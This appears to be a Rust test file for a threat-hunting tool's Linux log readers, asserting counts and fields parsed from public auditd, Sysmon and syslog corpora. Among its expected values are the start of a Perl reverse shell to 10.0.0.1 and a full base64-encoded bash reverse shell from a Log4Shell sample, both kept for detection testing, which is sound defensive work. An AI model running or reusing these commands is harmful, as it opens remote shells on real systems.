//! Linux readers (issue #21) on the real public corpora in
//! `shared/corpora/linux` (see its README.md): `auditd-laurel`
//! (threathunters-io/laurel, GPL-3.0), `auditd-go-libaudit`
//! (elastic/go-libaudit, Apache-2.0), `otrf` (OTRF/Security-Datasets, MIT),
//! `sysmon-elastic` (elastic/integrations, Elastic License 2.0) and
//! `syslog-beats` (elastic/beats, Apache-2.0).
//!
//! Counts were cross-checked independently:
//! * auditd: a Python script (regex `^(node=\S+ )?type=\S+ msg=audit\((\d+\.\d+:\d+)\):`
//!   over the lines that are neither blank nor `#` comments; events =
//!   distinct (node, audit id); process events = events whose SYSCALL is
//!   x86_64 59/322 or aarch64 221/281 without `success=no` and that have an
//!   EXECVE record). It finds laurel 508 records / 151 events and
//!   go-libaudit 138 + 1 (the `type=DAEMON_CONFIG msg=audit(…) config
//!   changed, …` record has no `:` after the id) = 139 records / 90 events,
//!   as the corpora README says; `type=UNKNOWN[1329] msg=?` (rhel7 line 31)
//!   has no audit id and is the one InvalidLine. `record-execve-long.txt`
//!   has 9 lines, 2 of them continuation EXECVE records (`grep -c '^type=EXECVE
//!   msg=\S*  a1\['`), merged into the first: 7 events.
//! * Sysmon for Linux: `grep -c 'sysmon: <Event>'` (15 in the elastic
//!   sample), `python3 -c` with `json` + a regex over `<EventID>` for the
//!   OTRF rows (1 ×31, 3 ×6, 5 ×50, 11 ×4, 23 ×2); `xml.dom.minidom` fails
//!   on 17 of 93 rows (16 entities without `;`, 1 cut at 2,012 chars).
//! * syslog: `wc -l` (10 auth lines; 14 banner lines in the Sysmon sample).
//!
//! When the corpora are missing the tests print a note and pass.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use tracehunt_event::{Event, Value};
use tracehunt_readers::{open, Format, RecordError};

fn corpora() -> Option<PathBuf> {
    let p = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../../../shared/corpora/linux"
    ));
    if p.is_dir() {
        Some(p)
    } else {
        println!("note: {} not found; corpus test skipped", p.display());
        None
    }
}

fn read_all(path: &Path) -> (Format, Vec<Event>, Vec<RecordError>) {
    let it = open(path).unwrap_or_else(|e| panic!("{e}"));
    let format = it.format();
    let mut events = Vec::new();
    let mut errors = Vec::new();
    for r in it {
        match r {
            Ok(e) => events.push(e),
            Err(e) => errors.push(e),
        }
    }
    (format, events, errors)
}

fn text(ev: &Event, name: &str) -> Option<String> {
    ev.first(name).map(|v| v.to_text().into_owned())
}

fn on(events: &[Event], channel: &str) -> Vec<Event> {
    events
        .iter()
        .filter(|e| e.meta.channel.as_deref() == Some(channel))
        .cloned()
        .collect()
}

/// (records, process events, errors) of each auditd file under `dir`.
fn auditd_counts(dir: &Path) -> BTreeMap<String, (usize, usize, usize)> {
    let mut out = BTreeMap::new();
    for e in walkdir::WalkDir::new(dir).sort_by_file_name() {
        let e = e.unwrap();
        let p = e.path();
        let name = p.strip_prefix(dir).unwrap().display().to_string();
        if !e.file_type().is_file() || !(name.ends_with(".txt") || name.ends_with(".log")) {
            continue;
        }
        if name.ends_with("README.txt") || name.contains("LICENSE") {
            continue;
        }
        let (format, events, errors) = read_all(p);
        assert_eq!(format, Format::Auditd, "{name}");
        let recs = on(&events, "linux:auditd").len();
        let procs = on(&events, "linux:process_creation").len();
        assert_eq!(recs + procs, events.len(), "{name}");
        out.insert(name, (recs, procs, errors.len()));
    }
    out
}

#[test]
fn auditd_laurel_counts_and_values() {
    let Some(root) = corpora() else { return };
    let dir = root.join("auditd-laurel");
    let counts = auditd_counts(&dir);
    let expected: &[(&str, (usize, usize, usize))] = &[
        ("fork-sleep-exec.txt", (13, 2, 0)),
        ("line-user-acct.txt", (1, 0, 0)),
        ("proc-trace-dpkg-l.txt", (68, 11, 0)),
        ("record-adjntpval.txt", (3, 0, 0)),
        ("record-avc-apparmor.txt", (3, 0, 0)),
        ("record-connect.txt", (6, 0, 0)),
        ("record-execve-long.txt", (7, 1, 0)),
        ("record-execve.txt", (7, 1, 0)),
        ("record-login.txt", (3, 0, 0)),
        ("record-nscd.txt", (5, 0, 0)),
        ("record-perl-reverse-shell.txt", (8, 1, 0)),
        ("record-service-start.txt", (5, 0, 0)),
        ("record-syscall-key.txt", (6, 0, 0)),
        ("record-syscall-nullkey.txt", (8, 0, 0)),
        ("record-uringop.txt", (2, 0, 0)),
        ("shell-proc-trace-confusion.txt", (164, 5, 0)),
        ("shell-proc-trace-reordered.txt", (39, 4, 0)),
        ("shell-proc-trace.txt", (39, 4, 0)),
    ];
    for (name, c) in expected {
        assert_eq!(counts.get(*name), Some(c), "{name}");
    }
    for i in 0..17 {
        assert_eq!(counts.get(&format!("tree/{i:02}.txt")), Some(&(7, 1, 0)));
    }
    assert_eq!(counts.len(), expected.len() + 17);
    let records: usize = counts.values().map(|c| c.0).sum();
    // 508 records in the files, 2 continuation EXECVE records merged.
    assert_eq!(records, 506);

    // The 16 KiB split argument: 16,384 hex chars over 3 EXECVE records →
    // 8,192 bytes `baaa…aaac` `daaa…` `faaa…aaag`.
    let (_, ev, _) = read_all(&dir.join("record-execve-long.txt"));
    let execve = ev
        .iter()
        .find(|e| text(e, "type").as_deref() == Some("EXECVE"))
        .unwrap();
    let a1 = text(execve, "a1").unwrap();
    assert_eq!(a1.len(), 8192);
    assert!(
        a1.starts_with("baaaaaaaa") && a1.ends_with("aaaag"),
        "{}",
        &a1[..20]
    );
    assert_eq!(text(execve, "a1_len").as_deref(), Some("16384"));
    assert_eq!(text(execve, "a0").as_deref(), Some("/bin/echo"));
    assert_eq!(execve.meta.record_id, Some(2));
    let proc_ = &on(&ev, "linux:process_creation")[0];
    assert_eq!(
        text(proc_, "CommandLine").unwrap(),
        format!("/bin/echo {a1}")
    );
    assert_eq!(text(proc_, "Image").as_deref(), Some("/usr/bin/echo"));
    assert_eq!(text(proc_, "User").as_deref(), Some("user")); // enriched UID
    assert_eq!(text(proc_, "CurrentDirectory").as_deref(), Some("/tmp"));

    // Perl reverse shell: hex proctitle (NUL → space), enriched SYSCALL.
    let (_, ev, _) = read_all(&dir.join("record-perl-reverse-shell.txt"));
    let pt = ev
        .iter()
        .find(|e| text(e, "type").as_deref() == Some("PROCTITLE"))
        .unwrap();
    assert!(text(pt, "proctitle")
        .unwrap()
        .starts_with("perl -e use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM"));
    let p = &on(&ev, "linux:process_creation")[0];
    assert!(text(p, "CommandLine")
        .unwrap()
        .starts_with("perl -e use Socket;$i=\"10.0.0.1\""));

    // node= prefix → computer; enriched and raw names side by side.
    let (_, ev, _) = read_all(&dir.join("record-execve.txt"));
    let sys = &ev[0];
    assert_eq!(sys.meta.computer.as_deref(), Some("work"));
    assert_eq!(sys.meta.record_id, Some(1));
    assert_eq!(
        sys.meta.timestamp.unwrap().to_rfc3339(),
        "2021-03-07T10:50:32.375+00:00"
    );
    let vals = |n: &str| {
        sys.get(n)
            .map(|v| v.to_text().into_owned())
            .collect::<Vec<_>>()
    };
    assert_eq!(vals("syscall"), ["59"]);
    assert_eq!(vals("SYSCALL"), ["execve"]);
    assert_eq!(text(sys, "exe").as_deref(), Some("/usr/bin/whoami"));
    let p = &on(&ev, "linux:process_creation")[0];
    assert_eq!(text(p, "CommandLine").as_deref(), Some("whoami"));
    assert_eq!(p.first("ProcessId"), Some(&Value::Int(10884)));
    assert_eq!(p.first("ParentProcessId"), Some(&Value::Int(10883)));
    assert_eq!(text(p, "User").as_deref(), Some("root"));
    assert_eq!(text(p, "LogonId").as_deref(), Some("1000"));
    assert_eq!(p.meta.computer.as_deref(), Some("work"));

    // PAM record: nested msg='…' flattened.
    let (_, ev, _) = read_all(&dir.join("line-user-acct.txt"));
    assert_eq!(text(&ev[0], "op").as_deref(), Some("PAM:accounting"));
    assert_eq!(text(&ev[0], "acct").as_deref(), Some("user"));
    assert_eq!(text(&ev[0], "exe").as_deref(), Some("/usr/bin/sudo"));

    // The apt-get tree: the second step's parent is the first step's image.
    let (_, ev, _) = read_all(&dir.join("tree/00.txt"));
    let p = &on(&ev, "linux:process_creation")[0];
    assert_eq!(text(p, "CommandLine").as_deref(), Some("apt-get update"));
    assert_eq!(text(p, "key").as_deref(), Some("software_mgmt"));
}

#[test]
fn auditd_go_libaudit_counts_and_values() {
    let Some(root) = corpora() else { return };
    let dir = root.join("auditd-go-libaudit");
    let counts = auditd_counts(&dir);
    let expected: &[(&str, (usize, usize, usize))] = &[
        ("auparse/testdata/audit-rhel6.log", (2, 0, 0)),
        ("auparse/testdata/audit-rhel7.log", (49, 0, 1)),
        ("auparse/testdata/audit-ubuntu14.log", (1, 0, 0)),
        ("auparse/testdata/audit-ubuntu16.log", (3, 0, 0)),
        ("auparse/testdata/audit-ubuntu17.log", (1, 0, 0)),
        ("auparse/testdata/test2.log", (10, 0, 0)),
        ("auparse/testdata/test3.log", (17, 0, 0)),
        ("testdata/lost_messages.log", (17, 2, 0)),
        ("testdata/normal.log", (17, 2, 0)),
        ("testdata/out_of_order.log", (17, 2, 0)),
        ("testdata/rollover.log", (5, 0, 0)),
    ];
    assert_eq!(
        counts,
        expected.iter().map(|(n, c)| (n.to_string(), *c)).collect()
    );
    assert_eq!(counts.values().map(|c| c.0).sum::<usize>(), 139);

    // Hex-encoded exe (unquoted), and the missing `:` of DAEMON_CONFIG.
    let (_, ev, errs) = read_all(&dir.join("auparse/testdata/audit-rhel7.log"));
    assert_eq!(errs[0].at, tracehunt_readers::Location::Line(31));
    let dc = ev
        .iter()
        .find(|e| text(e, "type").as_deref() == Some("DAEMON_CONFIG"))
        .unwrap();
    assert_eq!(text(dc, "auid").as_deref(), Some("0"));
    assert_eq!(text(dc, "res").as_deref(), Some("success"));
    let (_, ev, _) = read_all(&dir.join("auparse/testdata/audit-rhel6.log"));
    assert_eq!(
        text(&ev[0], "exe").as_deref(),
        Some("/usr/libexec/strongswan/charon (deleted)")
    );

    // The same stream in order, shuffled and with lost records assembles
    // to the same two process events.
    let procs = |f: &str| {
        let (_, ev, _) = read_all(&dir.join("testdata").join(f));
        let mut v: Vec<_> = on(&ev, "linux:process_creation")
            .iter()
            .map(|e| {
                format!(
                    "{} | {}",
                    text(e, "Image").unwrap(),
                    text(e, "CommandLine").unwrap()
                )
            })
            .collect();
        v.sort();
        v
    };
    let normal = procs("normal.log");
    assert_eq!(normal.len(), 2);
    assert_eq!(procs("out_of_order.log"), normal);
    assert_eq!(procs("lost_messages.log"), normal);
    // Rollover: serials 4294967294, 4294967295, 0, 1, 2 stay five records
    // with their own times.
    let (_, ev, _) = read_all(&dir.join("testdata/rollover.log"));
    let ids: Vec<_> = ev.iter().map(|e| text(e, "audit_id").unwrap()).collect();
    assert!(
        ids[1].ends_with(":4294967295") && ids[2].ends_with(":0"),
        "{ids:?}"
    );
    // Non-enriched x86_64 syscall numbers get their names.
    assert_eq!(text(&ev[0], "SYSCALL").as_deref(), Some("connect"));
}

#[test]
fn auditd_otrf_arp_discovery() {
    let Some(root) = corpora() else { return };
    let p = root.join("otrf/auditd/sh_arp_cache_2020-11-10074812.log");
    let (format, ev, errs) = read_all(&p);
    assert_eq!(format, Format::Auditd);
    assert!(errs.is_empty());
    assert_eq!(on(&ev, "linux:auditd").len(), 12);
    let procs = on(&ev, "linux:process_creation");
    let cmds: Vec<_> = procs
        .iter()
        .map(|e| text(e, "CommandLine").unwrap())
        .collect();
    assert!(cmds.contains(&"arp -a".to_string()), "{cmds:?}");
    let arp = procs
        .iter()
        .find(|e| text(e, "CommandLine").as_deref() == Some("arp -a"))
        .unwrap();
    assert_eq!(text(arp, "Image").as_deref(), Some("/usr/sbin/arp"));
    assert_eq!(
        text(arp, "CurrentDirectory").as_deref(),
        Some("/home/wardog")
    );
    assert_eq!(text(arp, "User").as_deref(), Some("1000"));
}

fn event_ids(events: &[Event]) -> BTreeMap<u32, usize> {
    let mut m = BTreeMap::new();
    for e in events {
        if let Some(id) = e.meta.event_id {
            *m.entry(id).or_default() += 1;
        }
    }
    m
}

#[test]
fn sysmon_for_linux_syslog_lines() {
    let Some(root) = corpora() else { return };
    let (format, ev, errs) = read_all(&root.join("sysmon-elastic/sysmon.first-29-lines.log"));
    assert_eq!(format, Format::Syslog);
    assert!(errs.is_empty(), "{errs:?}");
    assert_eq!(ev.len(), 29);
    let sysmon = on(&ev, "Linux-Sysmon/Operational");
    let banner = on(&ev, "linux:syslog");
    assert_eq!((sysmon.len(), banner.len()), (15, 14));
    assert_eq!(
        event_ids(&sysmon),
        BTreeMap::from([(1, 4), (4, 1), (5, 8), (16, 1), (23, 1)])
    );
    let ids: Vec<_> = sysmon.iter().map(|e| e.meta.record_id.unwrap()).collect();
    assert_eq!(ids, (0..15).collect::<Vec<u64>>());
    let first = &sysmon[0];
    assert_eq!(first.first("EventID"), Some(&Value::Int(16)));
    assert_eq!(first.meta.computer.as_deref(), Some("james-ubuntu-demo"));
    assert_eq!(
        first.meta.timestamp.unwrap().to_rfc3339(),
        "2021-10-24T17:05:38.412320+00:00"
    );
    let images: Vec<_> = sysmon.iter().filter_map(|e| text(e, "Image")).collect();
    assert_eq!(
        images.iter().filter(|i| *i == "<unknown process>").count(),
        6
    );
    let b = &banner[0];
    assert_eq!(text(b, "program").as_deref(), Some("sysmon"));
    assert_eq!(text(b, "pid").as_deref(), Some("3041"));
    assert_eq!(
        text(b, "message").as_deref(),
        Some("Sysmon v1.0.0 - Monitors system events")
    );
    assert_eq!(b.meta.computer.as_deref(), Some("james-ubuntu-demo"));
}

#[test]
fn otrf_log4shell_sentinel_rows() {
    let Some(root) = corpora() else { return };
    let dir = root.join("otrf/log4shell");
    let (format, ev, errs) = read_all(
        &dir.join("syslog_sysmon_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json"),
    );
    assert_eq!(format, Format::JsonLines);
    assert!(errs.is_empty(), "{errs:?}");
    assert_eq!(ev.len(), 93);
    assert_eq!(on(&ev, "Linux-Sysmon/Operational").len(), 93);
    assert_eq!(
        event_ids(&ev),
        BTreeMap::from([(1, 31), (3, 6), (5, 50), (11, 4), (23, 2)])
    );
    // The reverse shell spawned by java.
    let shell = ev
        .iter()
        .find(|e| text(e, "CommandLine").is_some_and(|c| c.starts_with("bash -c {echo,")))
        .unwrap();
    assert_eq!(
        text(shell, "CommandLine").as_deref(),
        Some("bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}")
    );
    assert_eq!(text(shell, "Image").as_deref(), Some("/bin/bash"));
    assert_eq!(
        text(shell, "ParentImage").as_deref(),
        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
    );
    assert_eq!(shell.meta.computer.as_deref(), Some("UBUNTU5"));
    assert_eq!(shell.first("EventID"), Some(&Value::Int(1)));
    // Damage: 16 rows with entities whose `;` became a space are repaired,
    // one row cut at 2,012 chars keeps its fields before the cut.
    let damaged: Vec<_> = ev.iter().filter_map(|e| text(e, "XmlDamage")).collect();
    assert_eq!(damaged.len(), 17, "{damaged:?}");
    assert_eq!(
        damaged.iter().filter(|d| d.contains("cut at 2012")).count(),
        1
    );
    let cut = ev
        .iter()
        .find(|e| text(e, "XmlDamage").is_some_and(|d| d.contains("cut")))
        .unwrap();
    assert_eq!(
        text(cut, "ParentImage").as_deref(),
        Some("/usr/lib/jvm/java-8-openjdk-amd64/jre/bin/java")
    );
    // Cut inside ParentCommandLine: kept as far as it goes.
    assert!(text(cut, "ParentCommandLine")
        .unwrap()
        .ends_with("-Dcatalina.base=/opt/tomcat -"));
    assert!(text(cut, "XmlDamage")
        .unwrap()
        .contains("the value of Data `ParentCommandLine`"));
    let unknown = ev
        .iter()
        .filter(|e| text(e, "Image").as_deref() == Some("<unknown process>"))
        .count();
    assert!(unknown >= 13, "{unknown}");
    // `&quot SELECT … &quot ` repaired into quotes.
    let select = ev
        .iter()
        .filter_map(|e| text(e, "CommandLine"))
        .filter(|c| {
            c.starts_with("sh -c /opt/omi/bin/omicli wql root/scx \"SELECT PercentUserTime")
                && (c.ends_with("where Handle='2030'\" | grep =")
                    || c.ends_with("where Handle='2106'\" | grep ="))
        })
        .count();
    assert_eq!(select, 2);

    // AUOMS rows: syslog rows, not auditd records.
    let (_, ev, errs) =
        read_all(&dir.join(
            "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference_2022-05-11181020.json",
        ));
    assert!(errs.is_empty());
    assert_eq!(on(&ev, "linux:syslog").len(), 50);
    assert!(ev
        .iter()
        .all(|e| text(e, "message").unwrap().starts_with("type=AUOMS_")));
    assert_eq!(text(&ev[0], "program").as_deref(), Some("auoms"));
}

#[test]
fn syslog_beats_auth_log() {
    let Some(root) = corpora() else { return };
    let (format, ev, errs) = read_all(&root.join("syslog-beats/auth-test.log"));
    assert_eq!(format, Format::Syslog);
    assert!(errs.is_empty());
    assert_eq!(on(&ev, "linux:syslog").len(), 10);
    let progs: Vec<_> = ev.iter().map(|e| text(e, "program").unwrap()).collect();
    assert_eq!(
        progs,
        ["sshd", "sshd", "sshd", "sshd", "sudo", "sshd", "sudo", "sudo", "groupadd", "useradd"]
    );
    assert_eq!(
        text(&ev[3], "message").as_deref(),
        Some("Failed password for root from 216.160.83.57 port 29160 ssh2")
    );
    assert_eq!(ev[3].meta.computer.as_deref(), Some("slave22"));
    let nosudo = &ev[7];
    assert_eq!(text(nosudo, "SUDO_USER").as_deref(), Some("tsg"));
    assert_eq!(text(nosudo, "USER").as_deref(), Some("root"));
    assert_eq!(text(nosudo, "COMMAND").as_deref(), Some("/bin/ls"));
    let t = ev[0].meta.timestamp.unwrap();
    assert_eq!(t.format("%m-%d %H:%M:%S").to_string(), "02-21 21:54:44");
    assert_eq!(
        ev.iter()
            .map(|e| e.meta.record_id.unwrap())
            .collect::<Vec<_>>(),
        (1..=10).collect::<Vec<u64>>()
    );
}
